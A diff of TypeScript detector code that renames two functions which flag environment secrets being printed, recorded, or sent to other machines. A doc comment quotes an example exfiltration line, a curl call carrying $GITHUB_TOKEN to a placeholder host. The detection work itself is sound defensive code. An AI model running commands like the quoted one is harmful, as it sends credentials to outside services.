@@ -35,7 +35,7 @@ const isEnvironment = (item: Effect) => item.verb === 'read' && item.target.kind
 const secretsIn = (words: readonly Word[]) => words.flatMap((word) => (word.from ?? []).filter(isSecret))
 
 /** Says where a secret of the environment is printed, or kept in a file or a history. */
-export function noteShown(execution: Execution): readonly Detected[] {
+export function reportShown(execution: Execution): readonly Detected[] {
   const { name, args, span } = execution.invocation
   if (TELLING.has(name)) return show(execution, secretsIn(args))
   if (BROADCASTING.has(name) || (name === 'git' && args.some(({ text }) => text !== null && RECORDING.has(text))))
@@ -115,7 +115,7 @@ function secretPattern(texts: readonly string[]): string | null {
  * Marks what goes to another machine with a secret that is for somebody else's service: `curl -H "Authorization: $GITHUB_TOKEN"
  * https://x.example`. A secret whose name tells no service may be for whoever is asked.
  */
-export function noteForeign({ site, start, sending: { words } }: Execution): Marks {
+export function reportForeign({ site, start, sending: { words } }: Execution): Marks {
   const carrying = words.filter((word) => word.from?.some(isSecret) === true)
   if (carrying.length === 0) return NO_MARKS
   const names = [...new Set(secretsIn(carrying).map((item) => item.target.value))].slice(0, 16)
